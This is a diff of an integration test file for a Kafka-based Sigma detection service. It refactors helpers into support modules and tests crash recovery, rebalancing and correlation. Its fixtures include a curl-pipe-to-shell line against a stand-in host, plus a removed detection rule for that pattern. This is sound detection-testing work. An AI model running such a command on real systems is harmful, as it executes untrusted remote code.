@@ -9,60 +9,24 @@ sink prints one JSON line per alert; either way every alert is observed.
 from __future__ import annotations
 
 import asyncio
-import os
-import signal
 import subprocess
-import sys
 import time
 import uuid
-from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
-import httpx
 import orjson
 import pytest
-import yaml
 from aiokafka import AIOKafkaConsumer, AIOKafkaProducer
 
 from detectors.sigma import screen
 from service import metrics
-from service.alerting.router import AlertRouter
-from service.app import Service
 from service.config import Settings
-from service.devservices.process import free_port
+from tests.support.instances import InProcess, Instance, kafka_settings, rules_dir, unique_topic
+from tests.support.rules import REPEATED_LOGINS
+from tests.support.waits import until
 
 pytestmark = pytest.mark.integration
-
-RULE = """
-title: Remote Script Piped Into A Shell
-id: 7a5c0f3e-1111-4000-8000-000000000001
-author: tests
-logsource: {category: ci_job_log}
-detection:
-    sel: {message|contains: '| sh'}
-    condition: sel
-level: high
-"""
-SYSLOG_RULE = """
-title: Root Login Failure
-id: 7a5c0f3e-1111-4000-8000-000000000002
-author: tests
-logsource: {product: linux, service: sshd}
-detection:
-    sel: {app_name: sshd, message|contains: 'Failed password for root'}
-    condition: sel
-level: medium
-"""
-
-
-def rules_dir(tmp_path: Path, *texts: str) -> Path:
-    path = tmp_path / "rules"
-    path.mkdir(exist_ok=True)
-    for index, text in enumerate(texts or (RULE,)):
-        (path / f"rule{index}.yml").write_text(text)
-    return path
-
 
 def hit(n: int) -> bytes:
     return orjson.dumps({"message": f"step {n}: curl -sSf https://x.example/i.sh | sh", "n": n})
@@ -70,23 +34,6 @@ def hit(n: int) -> bytes:
 
 def miss(n: int) -> bytes:
     return orjson.dumps({"message": f"step {n}: npm ci", "n": n})
-
-
-def unique_topic(prefix: str) -> str:
-    return f"{prefix}-{uuid.uuid4().hex[:8]}"
-
-
-async def wait_for(predicate: Callable[[], Any], timeout: float, what: str) -> None:
-    deadline = time.monotonic() + timeout
-    while True:
-        result = predicate()
-        if asyncio.iscoroutine(result):
-            result = await result
-        if result:
-            return
-        if time.monotonic() > deadline:
-            raise AssertionError(f"timed out waiting for {what}")
-        await asyncio.sleep(0.1)
 
 
 async def produce(bootstrap: str, topic: str, values: list[bytes], partition: int | None = None,
@@ -99,60 +46,6 @@ async def produce(bootstrap: str, topic: str, values: list[bytes], partition: in
         await asyncio.gather(*futures)
     finally:
         await producer.stop()
-
-
-class RecordingRouter:
-    """The real alert router plus a list of every alert it accepted."""
-
-    def __init__(self, inner: AlertRouter) -> None:
-        self.inner = inner
-        self.alerts: list[Any] = []
-
-    async def start(self) -> None:
-        await self.inner.start()
-
-    async def stop(self) -> None:
-        await self.inner.stop()
-
-    async def submit(self, alerts: Any) -> None:
-        await self.inner.submit(alerts)
-        self.alerts.extend(alerts)
-
-
-def kafka_settings(tmp_path: Path, bootstrap: str, topics: dict[str, Any], **kafka: Any) -> Settings:
-    return Settings(
-        data_dir=tmp_path / "data",
-        kafka={"bootstrap_servers": [bootstrap], "group_id": f"g-{uuid.uuid4().hex[:8]}", "topics": topics,
-               "commit_interval_s": 0.2, "connect_backoff_initial_s": 0.2, "connect_backoff_max_s": 1.0,
-               **kafka},
-        rules={"paths": [str(rules_dir(tmp_path, RULE, SYSLOG_RULE))], "watch": False},
-        alerting={"sinks": [{"type": "store"}]},
-        api={"enabled": False}, stdin={"enabled": False})
-
-
-class InProcess:
-    """A ``Service`` running in this event loop."""
-
-    def __init__(self, settings: Settings) -> None:
-        self.router = RecordingRouter(AlertRouter(settings.alerting, settings.data_dir))
-        self.service = Service(settings, router=self.router)
-        self.task: asyncio.Task[None] | None = None
-
-    async def __aenter__(self) -> InProcess:
-        await self.service.build()
-        self.task = asyncio.create_task(self.service.run(install_signals=False))
-        return self
-
-    async def __aexit__(self, *exc: object) -> None:
-        self.service.request_stop()
-        assert self.task is not None
-        await asyncio.wait_for(self.task, 60)
-
-    def ids_by_token(self) -> dict[str, set[str]]:
-        out: dict[str, set[str]] = {}
-        for alert in self.router.alerts:
-            out.setdefault(alert.origin.token(), set()).add(alert.id)
-        return out
 
 
 async def test_kcat_and_aiokafka_messages_yield_exactly_the_expected_alerts(kafka_server, tmp_path):
@@ -175,7 +68,7 @@ async def test_kcat_and_aiokafka_messages_yield_exactly_the_expected_alerts(kafk
     }, dead_letter_topic=dlq)
     screened = metrics.EVENTS_SCREENED.labels("kafka")._value.get()
     async with InProcess(settings) as running:
-        await wait_for(lambda: len(running.router.alerts) >= 4, 60, "4 alerts")
+        await until(lambda: len(running.router.alerts) >= 4, 60, "4 alerts")
         await asyncio.sleep(1.0)  # nothing more may arrive
         # the native screen cleared the one plain JSON line no rule can match (syslog is not screened)
         assert metrics.EVENTS_SCREENED.labels("kafka")._value.get() - screened == (1 if screen.AVAILABLE else 0)
@@ -188,7 +81,7 @@ async def test_kcat_and_aiokafka_messages_yield_exactly_the_expected_alerts(kafk
         ])
         runner = running.service.kafka
         assert runner is not None
-        await wait_for(lambda: runner.tracker.committed.get(_tp(ci)) == 4
+        await until(lambda: runner.tracker.committed.get(_tp(ci)) == 4
                        and runner.tracker.committed.get(_tp(sshd)) == 4, 30, "offsets committed")
         stored = running.router.inner.store.get(running.router.alerts[0].id)
         assert stored is not None and stored["rule"]["author"] == "tests"
@@ -228,78 +121,6 @@ async def consume_all(bootstrap: str, topic: str, count: int, timeout: float = 3
     return records
 
 
-# --- subprocess instances -------------------------------------------------------------------
-
-class Instance:
-    """``pipesentry run --config FILE`` as a child process; alerts come from its stdout sink."""
-
-    def __init__(self, tmp_path: Path, name: str, config: dict[str, Any]) -> None:
-        self.dir = tmp_path / name
-        self.dir.mkdir()
-        self.port = free_port()
-        config = {**config, "data_dir": str(self.dir / "data"),
-                  "api": {"port": self.port}, "stdin": {"enabled": False}}
-        self.config_path = self.dir / "pipesentry.yml"
-        self.config_path.write_text(yaml.safe_dump(config))
-        self.stdout = self.dir / "stdout.jsonl"
-        self.stderr = self.dir / "stderr.log"
-        env = {k: v for k, v in os.environ.items() if not k.startswith("PIPESENTRY_")}
-        with self.stdout.open("wb") as out, self.stderr.open("wb") as err:
-            self.proc = subprocess.Popen(
-                [sys.executable, "-m", "service.cli", "run", "--config", str(self.config_path)],
-                stdout=out, stderr=err, stdin=subprocess.DEVNULL, env=env)
-        self.url = f"http://127.0.0.1:{self.port}"
-
-    def alerts(self) -> list[dict[str, Any]]:
-        out = []
-        for line in self.stdout.read_bytes().splitlines():
-            try:
-                doc = orjson.loads(line)
-            except orjson.JSONDecodeError:
-                continue  # a line cut by SIGKILL
-            if isinstance(doc, dict) and "alert_id" in doc:
-                out.append(doc)
-        return out
-
-    async def get(self, path: str) -> httpx.Response | None:
-        try:
-            async with httpx.AsyncClient(timeout=2) as client:
-                return await client.get(self.url + path)
-        except httpx.HTTPError:
-            return None
-
-    async def ready(self) -> bool:
-        response = await self.get("/readyz")
-        return response is not None and response.status_code == 200
-
-    async def metric(self, name: str) -> float:
-        response = await self.get("/metrics")
-        assert response is not None
-        for line in response.text.splitlines():
-            if line.startswith(name + " ") or line.startswith(name + "{"):
-                return float(line.rsplit(" ", 1)[1])
-        return 0.0
-
-    def alive(self) -> bool:
-        return self.proc.poll() is None
-
-    def kill(self) -> None:
-        self.proc.send_signal(signal.SIGKILL)
-        self.proc.wait(10)
-
-    def stop(self) -> None:
-        if self.proc.poll() is None:
-            self.proc.terminate()
-            try:
-                self.proc.wait(30)
-            except subprocess.TimeoutExpired:
-                self.proc.kill()
-                self.proc.wait(10)
-
-    def log(self) -> str:
-        return self.stderr.read_text(errors="replace")[-4000:]
-
-
 def instance_config(bootstrap: str, topic: str, group: str, rules: Path) -> dict[str, Any]:
     return {
         "kafka": {"bootstrap_servers": [bootstrap], "group_id": group, "commit_interval_s": 0.2,
@@ -332,13 +153,13 @@ async def test_two_instances_split_partitions_and_survive_a_sigkill(kafka_server
     first = Instance(tmp_path, "a", config)
     second = Instance(tmp_path, "b", config)
     try:
-        await wait_for(lambda: _both_ready(first, second), 90, "both instances ready")
-        await wait_for(lambda: _split(first, second), 60, "partitions split 2 + 2")
+        await until(lambda: _both_ready(first, second), 90, "both instances ready")
+        await until(lambda: _split(first, second), 60, "partitions split 2 + 2")
         per_partition = 250
         # first half, then SIGKILL one instance in the middle of the stream, then the second half
         for p in range(4):
             await produce(kafka_server.bootstrap, topic, [hit(p * 10_000 + i) for i in range(per_partition)], p)
-        await wait_for(lambda: len(second.alerts()) > 0, 60, "the second instance alerting")
+        await until(lambda: len(second.alerts()) > 0, 60, "the second instance alerting")
         second.kill()
         for p in range(4):
             await produce(kafka_server.bootstrap, topic,
@@ -349,7 +170,7 @@ async def test_two_instances_split_partitions_and_survive_a_sigkill(kafka_server
             sources = {a["source"] for a in first.alerts() + second.alerts()}
             return len(sources) >= 4 * 2 * per_partition
 
-        await wait_for(complete, 120, "every alert after the kill")
+        await until(complete, 120, "every alert after the kill")
         assert first.alive(), first.log()
         duplicates = check_alerts(first.alerts() + second.alerts(), topic, expected)
         assert await first.metric("pipesentry_kafka_partitions_assigned") == 4
@@ -379,15 +200,15 @@ async def test_rebalance_when_an_instance_joins_mid_stream(kafka_server, tmp_pat
     sent = [0]
     joined = asyncio.Event()
     try:
-        await wait_for(first.ready, 90, "first instance ready")
+        await until(first.ready, 90, "first instance ready")
         producing = asyncio.create_task(_produce_until(kafka_server.bootstrap, topic, sent, joined))
-        await wait_for(lambda: len(first.alerts()) > 50, 60, "first alerts")
+        await until(lambda: len(first.alerts()) > 50, 60, "first alerts")
         second = Instance(tmp_path, "b", config)  # joins: partitions are revoked and reassigned mid-stream
-        await wait_for(second.ready, 90, "second instance ready")
+        await until(second.ready, 90, "second instance ready")
         joined.set()
         await producing
         total = sent[0]
-        await wait_for(lambda: len({a["source"] for a in first.alerts() + second.alerts()}) >= 4 * total, 120,
+        await until(lambda: len({a["source"] for a in first.alerts() + second.alerts()}) >= 4 * total, 120,
                        "every alert across the rebalance")
         check_alerts(first.alerts() + second.alerts(), topic, {p: range(total) for p in range(4)})
         assert second.alerts(), "the joining instance got partitions and work"
@@ -424,22 +245,22 @@ async def test_unreachable_broker_at_start_then_broker_restart_mid_stream(kafka_
     broker.stop()
     instance = Instance(tmp_path, "a", instance_config(broker.bootstrap, topic, "grp-restart", rules_dir(tmp_path)))
     try:
-        await wait_for(lambda: instance.get("/healthz"), 60, "the API to answer")
-        await wait_for(lambda: _metric_at_least(instance, "pipesentry_kafka_connect_errors_total", 2), 60,
+        await until(lambda: instance.get("/healthz"), 60, "the API to answer")
+        await until(lambda: _metric_at_least(instance, "pipesentry_kafka_connect_errors_total", 2), 60,
                        "connection retries")
         assert not await instance.ready() and instance.alive()
         readyz = await instance.get("/readyz")
         assert readyz is not None and readyz.json()["checks"]["kafka_partitions_assigned"] is False
 
         broker.restart()
-        await wait_for(instance.ready, 90, "ready once the broker is up")
+        await until(instance.ready, 90, "ready once the broker is up")
         await produce(broker.bootstrap, topic, [hit(i) for i in range(100)], 0)
         await produce(broker.bootstrap, topic, [hit(1000 + i) for i in range(100)], 1)
-        await wait_for(lambda: len(instance.alerts()) >= 200, 60, "first half of the alerts")
+        await until(lambda: len(instance.alerts()) >= 200, 60, "first half of the alerts")
         broker.restart()  # mid-stream: consumer and commits fail for a while, then resume
         await produce(broker.bootstrap, topic, [hit(i) for i in range(100, 200)], 0)
         await produce(broker.bootstrap, topic, [hit(1000 + i) for i in range(100, 200)], 1)
-        await wait_for(lambda: len({a["source"] for a in instance.alerts()}) >= 400, 120,
+        await until(lambda: len({a["source"] for a in instance.alerts()}) >= 400, 120,
                        "every alert after the broker restart")
         check_alerts(instance.alerts(), topic, {0: range(200), 1: range(200)})
         assert instance.alive(), instance.log()
@@ -455,28 +276,8 @@ async def _metric_at_least(instance: Instance, name: str, value: float) -> bool:
 
 # --- stateful detectors: periodic snapshots survive a SIGKILL ----------------------------------
 
-LOGIN_RULES = """
-title: Failed Login
-id: 7a5c0f3e-1111-4000-8000-000000000010
-name: failed_login
-author: tests
-logsource: {category: ci_job_log}
-detection:
-    sel: {message|contains: 'login failed'}
-    condition: sel
-level: low
----
-title: Repeated Failed Logins
-id: 7a5c0f3e-1111-4000-8000-000000000011
-author: tests
-correlation:
-    type: event_count
-    rules: [failed_login]
-    group-by: [user]
-    timespan: 1h
-    condition: {gte: 3}
-level: high
-"""
+LOGIN_RULES = REPEATED_LOGINS.replace("timespan: 1m", "timespan: 1h")
+"""The failed-login correlation over an hour: events a few seconds apart stay in one window."""
 
 
 def login(n: int, user: str, at: float | None = None) -> bytes:
@@ -502,49 +303,30 @@ async def test_correlation_state_survives_a_sigkill_through_periodic_snapshots(k
               "state": {"snapshot_interval_s": 0.3, "heartbeat_interval_s": 0.5}}
     first = Instance(tmp_path, "a", config)
     try:
-        await wait_for(first.ready, 90, "first instance ready")
+        await until(first.ready, 90, "first instance ready")
         # event times follow the wall clock, as a live producer's do: the restored scope clock
         # moves on with the wall clock while the instance is down, so fixed past times would
         # turn late whenever the restart takes longer than the allowed lateness
         t0 = time.time()
         await produce(kafka_server.bootstrap, topic,
                       [login(0, "bob", t0), login(1, "bob", t0 + 1), login(2, "amy", t0 + 2)], 0)
-        await wait_for(lambda: saved_offset(first, topic) == 3, 60, "a snapshot at the committed offset 3")
+        await until(lambda: saved_offset(first, topic) == 3, 60, "a snapshot at the committed offset 3")
         first.kill()
         assert first.alerts() == []
     finally:
         first.stop()
     # the restarted instance (same data_dir) restores bob's two logins and continues; amy stays at two
-    second = _restart(first)
+    second = first.restarted()
     try:
-        await wait_for(second.ready, 90, "restarted instance ready")
+        await until(second.ready, 90, "restarted instance ready")
         now = time.time()
         await produce(kafka_server.bootstrap, topic, [login(3, "bob", now), login(4, "amy", now)], 0)
-        await wait_for(lambda: len(second.alerts()) >= 1, 60, "the correlation alert")
+        await until(lambda: len(second.alerts()) >= 1, 60, "the correlation alert")
         await asyncio.sleep(1.0)  # a duplicate would show up within a few commit intervals
         alerts = second.alerts()
         assert [a["rule"]["name"] for a in alerts] == ["Repeated Failed Logins"], second.log()
     finally:
         second.stop()
-
-
-def _restart(old: Instance) -> Instance:
-    """A new process on the same directory, data_dir and config as ``old``."""
-    new = Instance.__new__(Instance)
-    new.dir = old.dir
-    new.port = free_port()
-    config = yaml.safe_load(old.config_path.read_text())
-    config["api"] = {"port": new.port}
-    new.config_path = old.dir / "pipesentry-restart.yml"
-    new.config_path.write_text(yaml.safe_dump(config))
-    new.stdout = old.dir / "stdout-restart.jsonl"
-    new.stderr = old.dir / "stderr-restart.log"
-    env = {k: v for k, v in os.environ.items() if not k.startswith("PIPESENTRY_")}
-    with new.stdout.open("wb") as out, new.stderr.open("wb") as err:
-        new.proc = subprocess.Popen([sys.executable, "-m", "service.cli", "run", "--config", str(new.config_path)],
-                                    stdout=out, stderr=err, stdin=subprocess.DEVNULL, env=env)
-    new.url = f"http://127.0.0.1:{new.port}"
-    return new
 
 
 async def test_a_snapshot_behind_the_committed_offset_rewinds_the_partition(kafka_server, tmp_path):
@@ -588,7 +370,7 @@ async def test_a_snapshot_behind_the_committed_offset_rewinds_the_partition(kafk
         alerting={"sinks": [{"type": "store"}]}, api={"enabled": False}, stdin={"enabled": False})
     async with InProcess(settings) as running:
         runner = running.service.kafka
-        await wait_for(lambda: runner.tracker.committed.get(tp) == 5, 60, "offset 5 committed")
+        await until(lambda: runner.tracker.committed.get(tp) == 5, 60, "offset 5 committed")
         alerts = list(running.router.alerts)
     # bob: 2 restored + offset 3 re-read = 3 -> one alert; amy: offsets 2 and 4 -> none
     assert [(a.rule.title, a.details["group"]) for a in alerts] == [("Repeated Failed Logins", {"user": "bob"})]
@@ -623,12 +405,12 @@ async def test_instance_scope_correlates_events_of_two_topics(kafka_server, tmp_
     title = "GitHub Branch Protection Removed Then Force Push"
     async with InProcess(settings) as running:
         # in that order, as it happens: the push is four minutes later, beyond correlation.allowed_lateness
-        await wait_for(lambda: len(running.router.alerts) == 1, 60, "the protection-removed alert")
+        await until(lambda: len(running.router.alerts) == 1, 60, "the protection-removed alert")
         await produce(kafka_server.bootstrap, pushes, [orjson.dumps(by_source["product=github,service=webhook"])],
                       partition=1)
-        await wait_for(lambda: any(a.rule.title == title for a in running.router.alerts), 60,
+        await until(lambda: any(a.rule.title == title for a in running.router.alerts), 60,
                        "the cross-topic correlation alert")
-        await wait_for(lambda: len(running.router.alerts) >= 3, 30, "both base alerts")
+        await until(lambda: len(running.router.alerts) >= 3, 30, "both base alerts")
     titles = [a.rule.title for a in running.router.alerts]
     assert titles.count(title) == 1 and len(titles) == 3, titles
     fired = next(a for a in running.router.alerts if a.rule.title == title)
